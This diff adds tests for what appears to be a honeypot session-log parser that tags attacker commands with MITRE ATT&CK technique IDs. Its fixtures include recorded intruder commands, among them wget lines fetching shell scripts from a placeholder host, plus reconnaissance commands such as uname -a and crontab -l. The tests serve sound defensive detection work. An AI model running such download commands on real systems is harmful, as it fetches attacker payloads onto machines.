@@ -135,3 +135,28 @@ async def test_21_a_very_long_line_is_cut_and_kept(known: Known) -> None:
     assert "bytes cut]" in long
     assert len(long) < 65_536
     assert "T1140" in known.techniques(session["attacker_ip"]), "what it is fed to stands at its end"
+
+
+async def test_02_a_log_that_begins_with_its_newest_part_loses_nothing(known: Known) -> None:
+    for native, ip, text, technique in (
+        ("0ade00000001", "192.0.2.91", "wget http://203.0.113.9/a.sh", "T1105"),
+        ("0ade00000002", "192.0.2.92", "crontab -l", "T1007"),
+        ("0ade00000003", "192.0.2.93", "uname -a", "T1082"),
+    ):
+        session = await known.session(native)
+        assert (session["attacker_ip"], session["end_reason"]) == (ip, "closed")
+        assert [c["command_text"] for c in session["commands"]] == [text]
+        assert session["ended_at"] - session["started_at"] == 4.0
+        assert technique in known.techniques(ip)
+
+
+async def test_04_an_id_that_comes_again_is_another_session(known: Known) -> None:
+    rows = await known.repo.find("TT8")
+    payloads = [await known.repo.session_payload(r["session_id"]) for r in rows if r["kind"] == "session"]
+    found = sorted((p["attacker_ip"], [c["command_text"] for c in p["commands"]]) for p in payloads if p)
+    assert found == [
+        ("192.0.2.70", ["wget http://203.0.113.9/one.sh"]), ("192.0.2.71", ["crontab -l"]), ("192.0.2.72", ["id", "uname -a"]),
+    ]  # fmt: skip
+    assert known.techniques("192.0.2.70") >= {"T1105"}
+    assert known.techniques("192.0.2.71") >= {"T1007"}
+    assert known.techniques("192.0.2.72") >= {"T1033", "T1082"}
